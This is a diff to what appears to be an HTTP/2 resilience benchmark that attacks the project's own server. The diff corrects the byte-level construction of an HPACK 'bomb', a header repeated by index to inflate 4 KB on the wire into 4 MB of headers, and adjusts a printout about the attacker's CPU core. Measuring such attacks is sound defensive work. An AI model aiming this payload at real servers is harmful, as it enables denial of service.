@@ -178,9 +178,11 @@ def continuation_flood(port, stop):
 
 
 def hpack_bomb(port, stop):
-    # One 4 KB header stored in the dynamic table (literal with incremental indexing), then a block
-    # repeating it by index (62) 4,000 times: 16 MB of headers from 4 KB on the wire.
-    big = b"\x40" + hpack_string("x-bomb") + bytes([0x7F, 0x81, 0x1F]) + b"b" * 4000
+    # One 1 KiB header stored in the dynamic table (literal with incremental indexing; it fits the
+    # 4 KiB table), then a block repeating it by index (62) 4,000 times: 4 MB of headers from 4 KB on
+    # the wire. (The runs recorded on 2026-11-24 sent a malformed version — a 4,096-byte length over
+    # 4,000 bytes — which nghttp2 rejected as COMPRESSION_ERROR before any bomb.)
+    big = b"\x40" + hpack_string("x-bomb") + bytes([0x7F, 0x81, 0x07]) + b"b" * 1024  # 127 + 1 + 7·128 = 1,024
     def frames(p, i):
         block = request_block() + (big if i == 0 else b"") + b"\xbe" * 4000
         return frame(1, 0x5, 2 * i + 1, block)
@@ -499,8 +501,8 @@ def main():
         chosen = [a for a in ATTACKS if not only or any(o.lower() in a[0].lower() for o in only)]
         legit(args, port, key, tmp + "/warm-up.json")  # connections, caches, the first raffle: not measured
         print("attacks: raffled on core 0 (--loops 1, --idle-timeout 5, --durability %s); legitimate client `raffle-bench mobile` "
-              "on core 1 at %d requests/s for %.0f s, alone then beside the attack, %d rounds (medians shown); attacker on core 1 "
-              "under SCHED_IDLE, from %s" % (args.durability, args.rate, args.seconds, args.rounds, ATTACKER))
+              "on core 1 at %d requests/s for %.0f s, alone then beside the attack, %d rounds (medians shown); attacker on core "
+              "%d under SCHED_IDLE, from %s" % (args.durability, args.rate, args.seconds, args.rounds, args.attacker_core, ATTACKER))
         print()
         header = "%-36s | %-44s | %6s | %7s | %15s | %s" % (
             "attack", "offender ended with", "CPU", "RSS MiB", "p99 ms: alone", "with attack (ratio)")
